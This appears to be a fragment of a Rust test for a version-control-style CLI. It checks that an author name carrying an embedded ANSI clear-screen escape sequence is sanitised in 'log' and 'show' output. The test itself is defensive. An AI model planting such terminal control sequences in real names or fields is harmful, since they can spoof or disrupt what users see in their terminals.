        ("Sho \u{1b}[2J Nakamura", "sho.nakamura@example.com"),
        IT,
    );
    for args in [
        &["log", "--now", "2026-12-01"][..],
        &["show", "support-reply-drafts", "--now", "2026-12-01"][..],
    ] {
        let out = repo.tollgate(args).output().unwrap();
        assert!(out.status.success());
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(text.contains("Sho \u{FFFD}[2J Nakamura"), "{text}");
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{text}"
        );
    }
}
